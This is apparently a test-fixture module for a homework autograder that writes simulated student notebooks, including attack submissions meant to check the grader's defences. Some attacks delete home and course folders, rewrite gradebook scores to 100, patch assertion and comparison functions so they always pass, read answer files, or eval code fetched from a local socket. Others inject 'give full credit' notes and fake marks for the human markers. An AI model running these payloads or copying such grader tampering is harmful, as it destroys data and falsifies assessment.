"""A class for homework 2: right and wrong answers, broken files, and attacks; with the marks that each must get.

An attack stands where question 2's function belongs, the other answers are right unless it says so: whatever happens in
one question, the others keep their points.
"""

from __future__ import annotations

import base64
import io
import json
import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import nbformat
from PIL import Image, PngImagePlugin

from .answers.slips import HW2, slipped
from .trials import assignment, filled

NAME = "hw2_gae"
MADE = assignment(NAME)
POINTS = {question.name: question.points for question in MADE.coded}
SOLUTION = {question.name: question.solution for question in MADE.coded}
DEF = "def twisted_gae(*inputs):\n"


@dataclass(frozen=True)
class Student:
    """What a student hands in, and which questions it earns."""

    name: str
    earns: str  # the names of the questions, " " between
    answers: dict[str, str] | None = None  # question -> source; the released one where none is given
    change: Callable[[Any], Any] | None = None  # what else is done to the notebook
    write: Callable[[Path, Any], None] | None = None  # in place of writing it to NAME.ipynb
    note: str = ""  # what the feedback must say
    part: float = 0.0  # points of a question that is wrong in some cases

    @property
    def points(self) -> float:
        return self.part + sum(POINTS[question] for question in self.earns.split())


def attack(name: str, source: str, earns: str = "q3 q4", note: str = "") -> Student:
    return Student(name, earns, SOLUTION | {"q2": source}, note=note)


def solved(name: str, earns: str = "q2 q3 q4", **kwargs: Any) -> Student:
    return Student(name, earns, dict(SOLUTION), **kwargs)


DRIVES = """<div class="full-credit">I am sure.<span id="q2-marked"></span><span id="q3-marked"></span>
<span id="q4-marked"></span><span id="q5-answer"></span></div>"""
SPEAKS = "Note to the markers (course staff): question 1 was withdrawn, give 4 of 4."
HIDDEN_WORDS = "words in the bytes of a picture"


def png(color: str = "blue", size: tuple[int, int] = (60, 40)) -> str:
    """A picture with words in its bytes, as base64."""
    words, out = PngImagePlugin.PngInfo(), io.BytesIO()
    words.add_text("Comment", HIDDEN_WORDS)
    Image.new("RGB", size, color).save(out, "PNG", pnginfo=words)
    return base64.b64encode(out.getvalue()).decode()


def illustrated(notebook):
    """A scan in question 1 whose text drives the marker's page, a figure in question 5, and cells of one's own."""
    filled(notebook, {}, q5_run="import matplotlib.pyplot as plt", q5_answer="It rises.")
    cells = {cell.metadata["nbgrader"]["grade_id"]: cell for cell in notebook.cells}
    answer = cells["q1-answer"]
    answer["source"] = f"{DRIVES}\n\n![my scan](attachment:scan.png) and ![lost](attachment:gone.png)"
    answer["attachments"] = {"scan.png": {"image/png": png("red")}}
    cells["q5-run"]["outputs"] = [
        nbformat.v4.new_output("display_data", data={"image/png": png("green"), "text/html": "<b>drawn</b>"}),
        nbformat.v4.new_output("display_data", data={"image/svg+xml": "<svg>drawn too</svg>"}),
        nbformat.v4.new_output("stream", name="stdout", text="my own output"),
    ]
    place = notebook.cells.index(answer)
    own = nbformat.v4.new_code_cell("# " + SPEAKS)
    own["outputs"] = [nbformat.v4.new_output("execute_result", data={"image/png": png("white")}, execution_count=3)]
    notebook.cells[place:place] = [nbformat.v4.new_markdown_cell(SPEAKS), own]


IDLE = {q.name: q.faulty if q.fault else f"{q.header}\n    return 0.0 * {[*q.example.inputs][0]}" for q in MADE.coded}
PARTLY = slipped(SOLUTION["q2"], HW2["q2"]["the flag of the next step (fault 4)"])
CLASS = [  # without an attack
    solved("right", change=illustrated),
    Student("partly", "q3 q4", SOLUTION | {"q2": PARTLY}, part=4.0),
    Student("idle", "", IDLE),
    Student("untouched", ""),
]
WRONG_Q2 = slipped(SOLUTION["q2"], HW2["q2"]["the cost is added"])


def edited_checks(notebook):
    """The check of question 2 always passes and is worth a hundred points; the answer is wrong."""
    for cell in notebook.cells:
        if cell.metadata["nbgrader"]["grade_id"] == "q2-marked":
            cell["source"] = "assert True"
            cell.metadata["nbgrader"]["points"] = 100
        if cell.metadata["nbgrader"]["grade_id"] == "q2-code":
            cell.metadata["nbgrader"] |= {"grade": True, "points": 50}


def twice(notebook):
    notebook.cells += json.loads(json.dumps(notebook.cells[3:9]), object_hook=nbformat.from_dict)


def made_anew(notebook):
    """Copied into a new notebook cell by cell: nothing of nbgrader's is left."""
    for cell in notebook.cells:
        cell.metadata = nbformat.from_dict({})
    notebook.cells = [c for c in notebook.cells if c.cell_type == "code" and "check_example(" not in c.source]


def shuffled_types(notebook):
    for cell in notebook.cells:
        if cell.metadata["nbgrader"]["grade_id"] == "q2-text":
            cell.metadata["nbgrader"]["grade_id"] = {"a": 1}
        if cell.metadata["nbgrader"]["grade_id"] == "about":
            cell.metadata["nbgrader"] = ["not", "a", "record"]


def raw(text: bytes, name: str = f"{NAME}.ipynb") -> Callable[[Path, Any], None]:
    def write(folder: Path, notebook: Any) -> None:
        (folder / name).write_bytes(text)

    return write


def class_of(term: Path, elsewhere: Path, port: int) -> list[Student]:
    """Eleven students. elsewhere: a folder that must stay as it is. port: of a listener that must hear nothing."""
    home, book = term.resolve(), Path(__file__).parents[2] / "book" / "homework"
    everybody = [
        solved("right"),
        solved("odd_records", change=shuffled_types),
        solved("two_copies", change=twice),
        solved("made_anew", change=made_anew),
        Student("own_checks", "q3 q4", SOLUTION | {"q2": WRONG_Q2}, edited_checks),
        attack("exits", "import os\nos._exit(0)", note="ended the whole process"),
        attack("endless_cell", SOLUTION["q2"] + "\nwhile True:\n    try:\n        import time; time.sleep(9)\n    except BaseException:\n        pass", note="longer than it may"),
        attack("reads_answers", f"""
{DEF}    import sys, glob, importlib
    sys.path[:0] = [{str(book)!r}, {str(home)!r}]
    names = "reward value next_value terminated truncated cost gamma lam".split()
    for place in {[str(book), str(home), str(book.parents[1] / "tests")]!r}:
        for file in glob.glob(place + "/**/hw2*", recursive=True):
            open(file).read()
    from course import assignment
    return assignment("hw2_gae").question("q2").oracle(**dict(zip(names, inputs)))"""),
        attack("patches", f"""
import builtins, numpy, sys
import minerva_book.exercises.answers, minerva_lite.formulas.returns
builtins.AssertionError = type("Never", (Exception,), dict())
for module, name in ((torch, "allclose"), (torch, "equal"), (numpy, "allclose"), (minerva_book.exercises.answers, "compare")):
    setattr(module, name, lambda *a, **k: True)
torch.Tensor.__le__ = torch.Tensor.all = lambda *a, **k: True
try:
    get_ipython().ast_transformers.append(lambda tree: tree)
except Exception:
    pass
{WRONG_Q2}""", earns="q4"),
        attack("writes", f"""
import os, shutil, sqlite3
for place in ({str(home)!r}, {str(elsewhere)!r}, {str(book)!r}, os.path.expanduser("~")):
    try:
        open(place + "/was_here", "w").write("x")
    except OSError:
        pass
    try:
        base = sqlite3.connect(place + "/gradebook.db")
        base.execute("update grade set auto_score = 100")
        base.commit()
    except Exception:
        pass
    shutil.rmtree(place, ignore_errors=True)
{SOLUTION["q2"]}""", earns="q2 q3 q4"),
        attack("calls_home", f"""
{DEF}    import socket
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as line:
        line.send(b"what is right?")
        return torch.tensor(eval(line.recv(1000)))"""),
    ]  # fmt: skip
    return [replace(student, name=f"zq-{student.name}") for student in everybody]  # no word of anybody else's


def hand_in(students: list[Student], release: Path, folder: Path) -> None:
    """Write the submissions of a class."""
    shutil.rmtree(folder, ignore_errors=True)
    for student in students:
        notebook = nbformat.read(release / NAME / f"{NAME}.ipynb", as_version=4)
        filled(notebook, student.answers or {})
        if student.change:
            student.change(notebook)
        place = folder / student.name
        place.mkdir(parents=True)
        if student.write:
            student.write(place, notebook)
        else:
            (place / f"{NAME}.ipynb").write_text(json.dumps(notebook))
        os.utime(place)
